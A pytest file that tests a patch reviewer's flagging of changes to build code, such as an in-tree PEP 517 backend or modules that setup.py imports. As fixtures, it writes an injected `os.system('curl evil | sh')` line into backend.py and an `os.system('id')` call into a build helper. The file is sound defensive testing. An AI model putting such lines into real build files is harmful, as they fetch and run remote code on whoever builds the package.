"""Build code is flagged like a dependency file (worker/environment/build_code.py, `PatchEvidence.build_code`).

An attacker's patch rewrote the in-tree PEP 517 backend (`backend.py`, `backend-path = ["."]`): the
environment the tests ran in was built by running it, and no flag said so. Judged here as the attempt
judges: `take_evidence` from what git stores, then `review_flags`.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.doubles.git_http import git, make_worktree
from tests.review.test_evidence_batches import counted
from tests.review.worker_side import staged_patch
from worker.attempts.repo_config import BUILD_CODE_NOTE, DEPENDENCY_NOTE, RepoConfig, review_flags
from worker.attempts.stored_patch import ChangedFile, EvidenceLimits, PatchEvidence, take_evidence

IN_TREE_BACKEND = '[build-system]\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "calc"\n'
SETUP_PY = "from mypkg._build import BuildPy\nfrom setuptools import setup\nsetup(cmdclass={'build_py': BuildPy})\n"
FILES = {
    "pyproject.toml": IN_TREE_BACKEND,
    "backend.py": "import helpers\nfrom setuptools.build_meta import *\n",
    "helpers.py": "X = 1\n",
    "calc.py": "def add(a, b):\n    return a - b\n",
    "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
}


def evidence(repo: Path) -> PatchEvidence:
    base = git("rev-parse", "HEAD", cwd=repo).stdout.strip()
    return take_evidence(repo, base, staged_patch(repo), repo.parent / "scratch", limits=EvidenceLimits())


def flags_of(repo: Path) -> list[str]:
    return review_flags(evidence(repo), RepoConfig(test_command="python -m pytest -q"))


def build_code(path: str) -> str:
    return f"changes build code {path} ({BUILD_CODE_NOTE})"


@pytest.fixture
def backend_repo(tmp_path: Path) -> Path:
    return make_worktree(tmp_path / "repo", FILES)


def test_a_patch_rewriting_the_in_tree_backend_is_flagged(backend_repo: Path) -> None:
    (backend_repo / "backend.py").write_text("import os\nos.system('curl evil | sh')\n" + FILES["backend.py"])
    assert flags_of(backend_repo) == [build_code("backend.py")]


def test_a_module_the_backend_imports_is_flagged_and_ordinary_code_is_not(backend_repo: Path) -> None:
    (backend_repo / "helpers.py").write_text("X = 2\n")
    (backend_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    changes = evidence(backend_repo)
    assert changes.build_code == ("backend.py", "helpers.py")
    assert review_flags(changes, RepoConfig()) == [build_code("helpers.py")]


def test_build_code_of_either_side_counts(backend_repo: Path) -> None:
    """A module the patch makes the backend import (the patched tree's) and one it deletes (the base's)."""
    (backend_repo / "backend.py").write_text("import sneaky\n")
    (backend_repo / "sneaky.py").write_text("import os\n")
    (backend_repo / "helpers.py").unlink()
    assert flags_of(backend_repo) == [build_code("backend.py"), build_code("helpers.py"), build_code("sneaky.py")]


def test_a_module_setup_py_imports_is_flagged(tmp_path: Path) -> None:
    repo = make_worktree(tmp_path / "repo", {
        "setup.py": SETUP_PY, "src/mypkg/__init__.py": "", "src/mypkg/_build.py": "BuildPy = object\n",
        "src/mypkg/calc.py": "X = 1\n",
    })  # fmt: skip
    (repo / "src" / "mypkg" / "_build.py").write_text("import os\nos.system('id')\nBuildPy = object\n")
    (repo / "src" / "mypkg" / "calc.py").write_text("X = 2\n")
    assert flags_of(repo) == [build_code("src/mypkg/_build.py")]


def test_a_patch_changing_only_ordinary_code_has_no_flag(backend_repo: Path) -> None:
    (backend_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    assert flags_of(backend_repo) == []


def test_the_note_joins_the_other_flags_as_the_dependency_note_does() -> None:
    paths = ("tests/helpers.py", "requirements.txt", "conftest.py", "backend.py", "calc.py")
    build = ("backend.py", "conftest.py", "requirements.txt", "tests/helpers.py")
    changes = PatchEvidence("0" * 40, "1" * 40, "", tuple(ChangedFile(p) for p in paths), build_code=build)
    assert review_flags(changes, RepoConfig()) == [
        f"changes test file or test-runner configuration tests/helpers.py ({BUILD_CODE_NOTE})",
        f"changes dependency file requirements.txt ({DEPENDENCY_NOTE})",  # a dependency file keeps its words
        f"changes the test runner or its configuration conftest.py ({BUILD_CODE_NOTE})",
        build_code("backend.py"),
    ]


def test_reading_the_build_code_costs_the_same_git_processes_for_many_modules(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def repo(root: Path, modules: int) -> Path:
        files = {"setup.py": "".join(f"import m{n}\n" for n in range(modules)), "calc.py": "x = 1\n"}
        made = make_worktree(root, {**files, **{f"m{n}.py": f"Y = {n}\n" for n in range(modules)}})
        (made / "m0.py").write_text("Y = -1\n")
        return made

    one, one_processes = counted(monkeypatch, repo(tmp_path / "one", 1))
    many, many_processes = counted(monkeypatch, repo(tmp_path / "many", 150))
    assert one.build_code == ("m0.py", "setup.py") and len(many.build_code) == 151
    assert one_processes == many_processes <= 20, (one_processes, many_processes)
